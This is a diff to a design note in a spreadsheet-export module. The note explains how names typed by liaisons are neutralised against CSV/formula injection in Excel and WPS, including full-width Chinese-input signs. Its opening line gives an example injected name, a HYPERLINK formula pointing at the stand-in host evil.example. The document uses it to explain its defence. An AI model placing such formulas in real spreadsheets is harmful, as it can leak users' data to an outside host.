@@ -4,8 +4,9 @@ A name typed by a liaison (a station renamed ``=HYPERLINK("http://evil.example/?
 must reach the NPC office's spreadsheet as that text, not as a formula Excel or WPS
 runs. Spreadsheets take a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
 formula, and some first strip a leading tab or carriage return (OWASP, "CSV Injection").
-We also take the full-width ``＝＋－＠`` that a Chinese input method produces, which
-Excel and WPS in Chinese locales read as the ASCII signs.
+We also take the full-width ``＝＋－＠`` that a Chinese input method produces, in case
+a spreadsheet in a Chinese locale converts them to the ASCII signs (cheap, and harmless
+for the rare name that starts with one).
 
 - Excel: build the workbook with openpyxl as usual, then serialise it with
   :func:`xlsx_file`, which turns every such text cell into a plain string cell
